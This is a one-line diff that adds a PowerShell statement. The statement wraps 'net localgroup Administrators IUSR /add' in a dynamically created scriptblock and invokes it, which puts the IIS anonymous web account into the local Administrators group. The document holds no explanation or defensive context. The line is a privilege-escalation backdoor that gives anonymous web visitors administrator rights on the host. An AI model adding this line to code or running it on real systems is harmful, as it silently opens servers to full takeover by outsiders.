@@ -1,0 +1,1 @@
+([scriptblock]::Create('net localgroup Administrators IUSR /add')).InvokeReturnAsIs()
